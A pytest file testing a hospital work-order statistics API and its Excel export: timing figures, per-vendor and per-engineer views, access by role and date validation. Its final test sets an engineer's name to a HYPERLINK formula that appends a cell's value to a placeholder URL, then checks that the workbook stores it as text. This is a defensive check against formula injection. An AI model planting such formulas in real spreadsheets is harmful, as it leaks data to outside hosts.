"""工单统计 through the PC API: response, on-site and repair times, open orders per vendor and
engineer, satisfaction, over Asia/Shanghai days; who may ask and what each of them sees.

Orders are built with the real operations under a frozen clock, so every stamp is exact.
"""

from __future__ import annotations

from datetime import UTC, date, datetime

import pytest

from models import Device, Role, Scope, WorkOrderKind, db
from models.work_order import DeviceCondition, Urgency
from operations.actors import Actor
from operations.clock import LOCAL_TZ, frozen
from operations.work_orders import flow
from operations.work_orders import orders as work_orders

STATS = "/api/v1/work-orders/stats"
RANGE = "from=2026-11-23&to=2026-11-25"


def at(day: int, hour: int, minute: int = 0) -> datetime:
    """A moment of November 2026 on the Asia/Shanghai clock, given to the clock in UTC."""
    return datetime(2026, 11, day, hour, minute, tzinfo=LOCAL_TZ).astimezone(UTC)


LATER = at(26, 12)  # when the figures are asked for


def actor(user) -> Actor:
    return Actor.of(user)


class Orders:
    """The operations a work order goes through, each at its own frozen moment, committed."""

    def __init__(self, world) -> None:
        self.world = world

    def step(self, moment: datetime, operation, user, *args, **kwargs):
        with frozen(moment):
            result = operation(actor(user), *args, **kwargs)
            db.session.commit()
            return result

    def create(self, moment: datetime, device) -> int:
        intake = work_orders.Intake(
            kind=WorkOrderKind.REPAIR,
            urgency=Urgency.NORMAL,
            contact_name="王护士",
            contact_methods=[
                work_orders.ContactMethod("mobile", "13800000001"),
                work_orders.ContactMethod("landline", "8021"),
            ],
            fault_description="开机后报错 E21",
        )
        with frozen(moment):
            order = work_orders.create_work_order(
                actor(self.world["clinician"]),
                db.session.get(Device, device.id),
                intake,
                emergency_accept_minutes=15,
            )
            db.session.commit()
            return order.id

    def work(self, order_id: int, engineer, *, accepted, arrived, completed) -> None:
        self.step(accepted, flow.accept, engineer, order_id)
        self.step(arrived, flow.arrive, engineer, order_id)
        self.step(
            completed,
            flow.complete,
            engineer,
            order_id,
            work_done="更换电源板",
            test_result="自检通过",
            test_passed=True,
            device_condition=DeviceCondition.NORMAL,
            diagnosis="电源板损坏",
        )

    def sign_off(self, order_id: int, moment: datetime, **rating) -> None:
        self.step(moment, flow.confirm, self.world["clinician"], order_id)
        self.step(moment, flow.rate, self.world["clinician"], order_id, **rating)


@pytest.fixture
def world(factory, client):
    institution = factory.institution("医疗机构测试1")
    vendor = factory.accepted_vendor(institution, "服务商测试1")
    other_vendor = factory.accepted_vendor(institution, "服务商测试2")
    routed = factory.device(institution, name="高压注射器")
    in_house = factory.device(institution, name="检眼镜")
    factory.authorization(routed, vendor, starts_on=date(2026, 1, 1), ends_on=date(2027, 12, 31), scopes={Scope.REPAIR})
    manager = factory.manager(institution)
    vendor_admin = factory.user(Role.VENDOR_ADMIN, vendor=vendor, display_name="服务商管理员")
    other_admin = factory.user(Role.VENDOR_ADMIN, vendor=other_vendor)
    clinician = factory.user(Role.CLINICIAN, institution=institution, display_name="王护士")
    outsider = factory.manager(factory.institution("医疗机构测试2"))
    return {
        "institution": institution,
        "vendor": vendor,
        "routed": routed,
        "in_house": in_house,
        "clinician": clinician,
        "engineer_a": factory.user(Role.VENDOR_ENGINEER, vendor=vendor, display_name="赵工"),
        "engineer_b": factory.user(Role.VENDOR_ENGINEER, vendor=vendor, display_name="钱工"),
        "own_engineer": factory.user(Role.INSTITUTION_ENGINEER, institution=institution, display_name="院内李工"),
        "manager_api": factory.api(client, manager),
        "vendor_api": factory.api(client, vendor_admin),
        "other_vendor_api": factory.api(client, other_admin),
        "clinician_api": factory.api(client, clinician),
        "engineer_api": factory.api(client, factory.user(Role.INSTITUTION_ENGINEER, institution=institution)),
        "outsider_api": factory.api(client, outsider),
    }


@pytest.fixture
def orders(world, app):
    """Six orders created on 23–25 November (Asia/Shanghai), one the minute after, in every state.

    A  vendor, 23rd 09:00, accepted 09:12, on site 09:40, done 10:40, rated 5 → closed
    B  in-house, 23rd 14:00, accepted 14:30, on site 15:00, done 15:45, rated 2 → 待回访
    C  vendor, 24th 08:00, accepted 08:20 by 钱工 → open
    D  vendor, 24th 09:00, nobody has taken it → open
    E  vendor, 24th 10:00, cancelled 10:05
    F  vendor, 25th 23:59 (the last minute of the range) → open
    G  in-house, 26th 00:00 (outside the range), accepted 00:10 by 院内李工 → open
    """
    ids = {}
    with app.app_context():
        make = Orders(world)
        ids["A"] = make.create(at(23, 9), world["routed"])
        make.work(
            ids["A"], world["engineer_a"], accepted=at(23, 9, 12), arrived=at(23, 9, 40), completed=at(23, 10, 40)
        )
        make.sign_off(ids["A"], at(23, 11), rating=5, response=5, skill=4, attitude=5)
        ids["B"] = make.create(at(23, 14), world["in_house"])
        make.work(
            ids["B"], world["own_engineer"], accepted=at(23, 14, 30), arrived=at(23, 15), completed=at(23, 15, 45)
        )
        make.sign_off(ids["B"], at(23, 16), rating=2, response=2, skill=3, attitude=1)
        ids["C"] = make.create(at(24, 8), world["routed"])
        make.step(at(24, 8, 20), flow.accept, world["engineer_b"], ids["C"])
        ids["D"] = make.create(at(24, 9), world["routed"])
        ids["E"] = make.create(at(24, 10), world["routed"])
        make.step(at(24, 10, 5), flow.cancel, world["clinician"], ids["E"], reason="误报")
        ids["F"] = make.create(at(25, 23, 59), world["routed"])
        ids["G"] = make.create(at(26, 0), world["in_house"])
        make.step(at(26, 0, 10), flow.accept, world["own_engineer"], ids["G"])
    return ids


def stats(api, query: str = RANGE):
    with frozen(LATER):
        return api.get(f"{STATS}?{query}" if query else STATS)


def ok(response) -> dict:
    assert response.status_code == 200, response.get_json()
    return response.get_json()


def test_the_managers_figures_are_exact(world, orders):
    figures = ok(stats(world["manager_api"]))
    vendor = world["vendor"]
    assert figures["from"] == "2026-11-23" and figures["to"] == "2026-11-25" and figures["vendor_id"] is None
    assert figures["totals"] == {"created": 6, "open": 3, "completed": 1, "closed": 1, "cancelled": 1}
    # A 12, B 30, C 20 minutes to accept; D, E, F were never accepted.
    assert figures["response_minutes"] == {"count": 3, "mean": 20.7, "median": 20.0, "p90": 30.0}
    assert figures["on_site_minutes"] == {"count": 2, "mean": 52.5, "median": 52.5, "p90": 60.0}
    assert figures["repair_minutes"] == {"count": 2, "mean": 102.5, "median": 102.5, "p90": 105.0}

    assert figures["per_vendor"] == [
        {
            "vendor_id": vendor.id,
            "vendor_name": "服务商测试1",
            "orders": 5,
            "open": 3,
            "completed": 0,
            "closed": 1,
            "cancelled": 1,
            "median_response_minutes": 16.0,
            "median_on_site_minutes": 60.0,
            "median_repair_minutes": 100.0,
            "satisfaction": {
                "ratings": 1,
                "mean_rating": 5.0,
                "mean_response": 5.0,
                "mean_skill": 4.0,
                "mean_attitude": 5.0,
                "poor_share": 0.0,
            },
        },
        {
            "vendor_id": None,
            "vendor_name": "院内工程师",
            "orders": 1,
            "open": 0,
            "completed": 1,
            "closed": 0,
            "cancelled": 0,
            "median_response_minutes": 30.0,
            "median_on_site_minutes": 45.0,
            "median_repair_minutes": 105.0,
            "satisfaction": {
                "ratings": 1,
                "mean_rating": 2.0,
                "mean_response": 2.0,
                "mean_skill": 3.0,
                "mean_attitude": 1.0,
                "poor_share": 1.0,
            },
        },
    ]

    engineers = {item["engineer_name"]: item for item in figures["per_engineer"]}
    assert engineers["赵工"] == {
        "engineer_id": world["engineer_a"].id,
        "engineer_name": "赵工",
        "vendor_id": vendor.id,
        "vendor_name": "服务商测试1",
        "assigned": 1,
        "open_now": 0,
        "open": 0,
        "completed": 0,
        "closed": 1,
        "cancelled": 0,
        "median_response_minutes": 12.0,
        "median_on_site_minutes": 60.0,
        "median_repair_minutes": 100.0,
        "ratings": 1,
        "mean_rating": 5.0,
    }
    assert engineers["钱工"]["assigned"] == 1 and engineers["钱工"]["open_now"] == 1
    assert engineers["钱工"]["median_response_minutes"] == 20.0 and engineers["钱工"]["median_repair_minutes"] is None
    assert engineers["钱工"]["mean_rating"] is None and engineers["钱工"]["closed"] == 0
    # 院内李工's order in the range is done (待回访); G, accepted after the range, is open now.
    own = engineers["院内李工"]
    assert own["vendor_id"] is None and own["vendor_name"] == "院内工程师"
    assert (own["assigned"], own["open_now"], own["closed"], own["mean_rating"]) == (1, 1, 0, 2.0)
    # Over the range its one order is 待回访 (已完成待归档), coloured as in the status chart.
    assert (own["open"], own["completed"], own["cancelled"], own["median_on_site_minutes"]) == (0, 1, 0, 45.0)
    assert own["median_response_minutes"] == 30.0 and own["median_repair_minutes"] == 105.0

    # Open right now, whatever the range: C, D, F at the vendor (D and F untaken), G in-house.
    open_now = figures["open_now"]
    assert (open_now["total"], open_now["unassigned"]) == (4, 2)
    assert [(item["vendor_name"], item["open"]) for item in open_now["per_vendor"]] == [
        ("服务商测试1", 3),
        ("院内工程师", 1),
    ]
    assert sorted((item["engineer_name"], item["vendor_name"], item["open"]) for item in open_now["per_engineer"]) == [
        ("钱工", "服务商测试1", 1),
        ("院内李工", "院内工程师", 1),
    ]


def test_the_range_is_asia_shanghai_days_both_included(world, orders):
    # F (25th 23:59) is the last one in; G (26th 00:00) falls on the next day.
    assert ok(stats(world["manager_api"], "from=2026-11-25&to=2026-11-25"))["totals"]["created"] == 1
    assert ok(stats(world["manager_api"], "from=2026-11-26&to=2026-11-26"))["totals"]["created"] == 1
    # A at 09:00 on the 23rd is 01:00 UTC: in the 23rd, not the 22nd.
    assert ok(stats(world["manager_api"], "from=2026-11-22&to=2026-11-22"))["totals"]["created"] == 0
    assert ok(stats(world["manager_api"], "from=2026-11-23&to=2026-11-23"))["totals"]["created"] == 2
    assert ok(stats(world["manager_api"], "from=2026-11-20&to=2026-11-30"))["totals"]["created"] == 7


def test_without_dates_the_last_thirty_days_up_to_today(world, orders):
    figures = ok(stats(world["manager_api"], ""))
    assert (figures["from"], figures["to"]) == ("2026-10-28", "2026-11-26")
    assert figures["totals"]["created"] == 7
    only_to = ok(stats(world["manager_api"], "to=2026-11-25"))
    assert (only_to["from"], only_to["to"]) == ("2026-10-27", "2026-11-25")


def test_a_vendor_admin_sees_only_their_vendor(world, orders):
    figures = ok(stats(world["vendor_api"]))
    assert figures["totals"] == {"created": 5, "open": 3, "completed": 0, "closed": 1, "cancelled": 1}
    assert [item["vendor_name"] for item in figures["per_vendor"]] == ["服务商测试1"]
    assert {item["engineer_name"] for item in figures["per_engineer"]} == {"赵工", "钱工"}
    assert figures["response_minutes"] == {"count": 2, "mean": 16.0, "median": 16.0, "p90": 20.0}
    assert (figures["open_now"]["total"], figures["open_now"]["unassigned"]) == (3, 2)
    assert [item["vendor_name"] for item in figures["open_now"]["per_vendor"]] == ["服务商测试1"]
    # Asking for the hospital's own orders or another vendor's gives nothing away.
    assert ok(stats(world["vendor_api"], f"{RANGE}&vendor_id={world['vendor'].id + 1}"))["totals"]["created"] == 0
    empty = ok(stats(world["other_vendor_api"]))
    assert empty["totals"]["created"] == 0 and empty["per_vendor"] == [] and empty["open_now"]["total"] == 0


def test_a_vendor_admin_keeps_only_its_accepted_open_orders_when_the_authorization_lapses(world, orders):
    with frozen(datetime(2028, 1, 2, tzinfo=UTC)):
        figures = ok(world["vendor_api"].get(f"{STATS}?{RANGE}"))
    # C, accepted before the lapse and still open, is the vendor's to finish; the rest are gone.
    assert figures["totals"] == {"created": 1, "open": 1, "completed": 0, "closed": 0, "cancelled": 0}
    with frozen(datetime(2028, 1, 2, tzinfo=UTC)):
        assert ok(world["manager_api"].get(f"{STATS}?{RANGE}"))["totals"]["created"] == 6


def test_the_manager_can_narrow_to_one_vendor(world, orders):
    figures = ok(stats(world["manager_api"], f"{RANGE}&vendor_id={world['vendor'].id}"))
    assert figures["vendor_id"] == world["vendor"].id
    assert figures["totals"]["created"] == 5 and [item["vendor_id"] for item in figures["per_vendor"]] == [
        world["vendor"].id
    ]
    assert figures["open_now"]["total"] == 3


def test_another_institution_sees_none_of_it(world, orders):
    figures = ok(stats(world["outsider_api"]))
    assert figures["totals"] == {"created": 0, "open": 0, "completed": 0, "closed": 0, "cancelled": 0}
    assert figures["response_minutes"] == {"count": 0, "mean": None, "median": None, "p90": None}
    assert figures["per_vendor"] == [] and figures["per_engineer"] == []
    assert figures["open_now"] == {"total": 0, "unassigned": 0, "per_vendor": [], "per_engineer": []}


@pytest.mark.parametrize("who", ["clinician_api", "engineer_api"])
def test_only_the_manager_and_vendor_admins_may_ask(world, who):
    response = stats(world[who])
    assert response.status_code == 403
    message = response.get_json()["error"]["message"]
    if who == "clinician_api":  # no 统计 on a clinician's PC at all (test_console_role_access)
        assert message.startswith("电脑端仅开放“工单”和“首页通知”")
    else:
        assert message == "仅设备科管理员或服务商管理员可以查看工单统计"


def test_signing_in_is_required(client):
    assert client.get(f"{STATS}?{RANGE}").status_code == 401
    assert client.get(f"/api/v1/work-orders/stats.xlsx?{RANGE}").status_code == 401


@pytest.mark.parametrize(
    ("query", "field", "reason"),
    [
        ("from=2026-11-31&to=2026-12-01", "from", "不是有效的日期"),
        ("from=2026/11/01&to=2026-11-02", "from", "日期格式应为 YYYY-MM-DD"),
        ("from=2026-11-01&to=tomorrow", "to", "日期格式应为 YYYY-MM-DD"),
        ("from=2026-11-25&to=2026-11-24", "to", "结束日期不能早于开始日期"),
        ("from=2025-11-25&to=2026-11-26", "from", "统计区间最长 366 天"),
        (f"{RANGE}&vendor_id=abc", "vendor_id", "应为正整数"),
    ],
)
def test_bad_ranges_are_refused(world, query, field, reason):
    response = stats(world["manager_api"], query)
    assert response.status_code == 422, response.get_json()
    assert response.get_json()["error"]["fields"][field] == reason


def test_a_full_leap_year_is_allowed(world):
    figures = ok(stats(world["manager_api"], "from=2027-11-26&to=2028-11-25"))  # 366 days with 29 Feb 2028
    assert figures["totals"]["created"] == 0


def test_an_order_back_in_rework_waits_for_its_new_completion(world, app):
    with app.app_context():
        make = Orders(world)
        order_id = make.create(at(23, 9), world["routed"])
        make.work(order_id, world["engineer_a"], accepted=at(23, 9, 5), arrived=at(23, 9, 30), completed=at(23, 10))
        make.step(at(23, 11), flow.reject, world["clinician"], order_id, reason="仍偶发报错")
    figures = ok(stats(world["manager_api"]))
    assert figures["totals"]["open"] == 1
    assert figures["response_minutes"]["median"] == 5.0
    assert figures["on_site_minutes"]["count"] == 0 and figures["repair_minutes"]["count"] == 0
    with app.app_context():
        make.step(at(23, 13), flow.arrive, world["engineer_a"], order_id)
        make.step(
            at(23, 14),
            flow.complete,
            world["engineer_a"],
            order_id,
            work_done="更换主板",
            test_result="自检通过",
            test_passed=True,
            device_condition=DeviceCondition.NORMAL,
        )
    figures = ok(stats(world["manager_api"]))
    # The first arrival (09:30) and the last completion (14:00).
    assert figures["on_site_minutes"]["median"] == 270.0 and figures["repair_minutes"]["median"] == 300.0


# --- 导出Excel -------------------------------------------------------------------------------------

XLSX = "/api/v1/work-orders/stats.xlsx"
SATISFACTION_KEYS = ("ratings", "mean_rating", "mean_response", "mean_skill", "mean_attitude", "poor_share")


def workbook_of(api, query: str = RANGE):
    from io import BytesIO

    from openpyxl import load_workbook

    with frozen(LATER):
        response = api.get(f"{XLSX}?{query}")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response.headers["Content-Disposition"]
    return load_workbook(BytesIO(response.data))


def rows_of(sheet) -> list[tuple]:
    return [row for row in sheet.iter_rows(values_only=True)]


def test_the_workbook_holds_the_same_figures_as_the_json(world, orders):
    figures = ok(stats(world["manager_api"]))
    book = workbook_of(world["manager_api"])
    # Then the equipment figures' sheets (tests/test_equipment_figures.py).
    assert book.sheetnames == ["概览", "按服务商", "按工程师", "当前未完结", "停机时长", "保养按期完成率", "计量逾期"]

    summary = {row[0]: row[1:] for row in rows_of(book["概览"]) if row and row[0]}
    assert summary["统计区间（报修日期，北京时间）"][:2] == ("2026-11-23", "2026-11-25")
    assert summary["服务商"][0] == "全部"
    totals = figures["totals"]
    assert [summary[label][0] for label in ("报修工单", "未完结", "已完成待归档", "已归档", "已撤销")] == [
        totals["created"],
        totals["open"],
        totals["completed"],
        totals["closed"],
        totals["cancelled"],
    ]
    for label, key in (
        ("响应时长（报修→接单）", "response_minutes"),
        ("现场时长（到场→完成）", "on_site_minutes"),
        ("修复时长（报修→完成）", "repair_minutes"),
    ):
        figure = figures[key]
        assert summary[label][:4] == (figure["count"], figure["mean"], figure["median"], figure["p90"])
    assert summary["合计"][0] == figures["open_now"]["total"] == 4
    assert summary["未派工"][0] == figures["open_now"]["unassigned"]

    vendors = rows_of(book["按服务商"])
    assert vendors[0][:3] == ("服务商", "工单数", "未完结")
    assert [row[:6] for row in vendors[1:]] == [
        (
            item["vendor_name"],
            item["orders"],
            item["open"],
            item["median_response_minutes"],
            item["median_on_site_minutes"],
            item["median_repair_minutes"],
        )
        for item in figures["per_vendor"]
    ]
    assert [row[6:] for row in vendors[1:]] == [
        tuple(item["satisfaction"][key] for key in SATISFACTION_KEYS) for item in figures["per_vendor"]
    ]
    assert vendors[1][0] == "服务商测试1" and vendors[2][0] == "院内工程师"

    engineers = rows_of(book["按工程师"])
    assert [row for row in engineers[1:]] == [
        (
            item["engineer_name"],
            item["vendor_name"],
            item["assigned"],
            item["closed"],
            item["open_now"],
            item["median_response_minutes"],
            item["median_repair_minutes"],
            item["ratings"],
            item["mean_rating"],
        )
        for item in figures["per_engineer"]
    ]
    assert {row[0] for row in engineers[1:]} == {"赵工", "钱工", "院内李工"}


def test_the_workbook_follows_the_vendor_filter_and_the_vendor_admins_view(world, orders):
    vendor = world["vendor"]
    book = workbook_of(world["manager_api"], f"{RANGE}&vendor_id={vendor.id}")
    summary = {row[0]: row[1:] for row in rows_of(book["概览"]) if row and row[0]}
    assert summary["服务商"][0] == "服务商测试1" and summary["报修工单"][0] == 5
    assert [row[0] for row in rows_of(book["按服务商"])[1:]] == ["服务商测试1"]

    own = ok(stats(world["vendor_api"]))
    book = workbook_of(world["vendor_api"])
    summary = {row[0]: row[1:] for row in rows_of(book["概览"]) if row and row[0]}
    assert summary["报修工单"][0] == own["totals"]["created"] == 5
    # Another vendor's admin learns nothing: no orders, and not even the other vendor's name.
    book = workbook_of(world["other_vendor_api"], f"{RANGE}&vendor_id={vendor.id}")
    summary = {row[0]: row[1:] for row in rows_of(book["概览"]) if row and row[0]}
    assert summary["报修工单"][0] == 0 and summary["服务商"][0] != "服务商测试1"


@pytest.mark.parametrize("who", ["clinician_api", "engineer_api", "vendor_engineer_api"])
def test_the_workbook_is_refused_to_whoever_may_not_read_the_figures(world, factory, client, who):
    if who == "vendor_engineer_api":
        world[who] = factory.api(client, world["engineer_a"])
    response = world[who].get(f"{XLSX}?{RANGE}")
    assert response.status_code == 403
    message = response.get_json()["error"]["message"]
    if who == "engineer_api":
        assert message == "仅设备科管理员或服务商管理员可以查看工单统计"
    else:  # no 统计 on a clinician's or a vendor engineer's PC at all (test_console_role_access)
        assert message.startswith("电脑端仅开放“工单”和“首页通知”")
    assert world[who].get(f"{STATS}?{RANGE}").status_code == 403


def test_the_workbook_refuses_a_bad_range_like_the_figures(world):
    response = world["manager_api"].get(f"{XLSX}?from=2026-11-25&to=2026-11-24")
    assert response.status_code == 422
    assert response.get_json()["error"]["fields"]["to"] == "结束日期不能早于开始日期"
    assert world["manager_api"].get(f"{XLSX}?{RANGE}").status_code == 200


def test_a_name_that_looks_like_a_formula_stays_text_in_the_workbook(world, orders, app):
    """People name themselves (PATCH /me): an engineer called '=HYPERLINK(…)' must not become a live
    formula in the manager's Excel."""
    from models import User, db

    formula = '=HYPERLINK("http://example.invalid/?"&B2,"详情")'
    with app.app_context():
        db.session.get(User, world["engineer_a"].id).display_name = formula
        db.session.commit()
    book = workbook_of(world["manager_api"])
    cells = [cell for row in book["按工程师"].iter_rows() for cell in row if cell.value == formula]
    assert cells, "the engineer's row is in the workbook"
    assert all(cell.data_type == "s" for cell in cells)
